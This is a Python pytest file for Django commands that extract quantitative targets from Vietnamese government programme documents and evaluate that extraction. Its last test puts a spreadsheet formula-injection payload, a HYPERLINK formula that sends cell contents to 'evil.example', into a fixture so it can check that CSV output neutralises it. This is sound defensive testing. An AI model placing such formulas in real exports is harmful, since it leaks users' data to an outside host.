"""The two commands, called directly so that they run before the app is in INSTALLED_APPS."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation

from lotrinh.extraction.management.commands import eval_extraction, extract_targets

PROGRAMMES = Path(__file__).resolve().parents[2] / "sample_data" / "programmes"


def run(command, *args, **options):
    # A command speaks the active language; these tests read its English words.
    out, err = StringIO(), StringIO()
    with translation.override("en"):
        call_command(command, *args, stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def test_jsonl_has_one_target_per_line_with_schema_fields_and_offsets():
    out, _ = run(extract_targets.Command(), str(PROGRAMMES / "hoa-binh.txt"))
    records = [json.loads(line) for line in out.splitlines()]
    assert len(records) == 10
    assert {"pillar", "indicator", "level", "year", "value", "value_max", "unit", "comparator",
            "strict", "text", "start", "end", "confidence", "rule"} <= set(records[0])  # fmt: skip


@pytest.mark.parametrize("output", ["csv", "table"])
def test_other_formats_print_every_target(output):
    out, _ = run(extract_targets.Command(), str(PROGRAMMES / "ben-tre.txt"), format=output)
    assert len(out.splitlines()) == 24


def test_missing_file_is_a_command_error_not_a_traceback(tmp_path):
    with pytest.raises(CommandError, match="does not exist"):
        run(extract_targets.Command(), str(tmp_path / "none.txt"))


def test_empty_file_is_a_command_error(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    with pytest.raises(CommandError, match="empty"):
        run(extract_targets.Command(), str(empty))


def test_document_without_targets_prints_a_note(tmp_path):
    plain = tmp_path / "plain.txt"
    plain.write_text("Các sở, ngành tổ chức triển khai thực hiện kế hoạch này.", encoding="utf-8")
    out, err = run(extract_targets.Command(), str(plain))
    assert out == ""
    assert "No quantitative targets" in err


def test_evaluation_prints_scores_per_document_and_overall():
    out, _ = run(eval_extraction.Command())
    lines = out.splitlines()
    assert lines[0].split()[:4] == ["document", "P", "R", "F1"]
    assert [line.split()[0] for line in lines[1:-1]] == [
        "bac-giang", "ben-tre", "binh-dinh", "hoa-binh", "phu-yen", "overall"
    ]  # fmt: skip
    assert float(lines[-2].split()[3]) >= 0.95
    assert lines[-1].startswith("baselines: ") and " found, " in lines[-1]


def test_the_csv_output_never_starts_a_cell_with_a_formula(tmp_path):
    document = tmp_path / "evil.txt"
    document.write_text(
        '=HYPERLINK("http://evil.example/?d="&A2) tỷ lệ hồ sơ công việc được xử lý trên môi '
        "trường mạng đạt 90% năm 2025.\n",
        encoding="utf-8",
    )
    out, _ = run(extract_targets.Command(), str(document), format="csv")
    header, row = list(csv.reader(StringIO(out)))
    assert row[header.index("text")].startswith("'=HYPERLINK(")
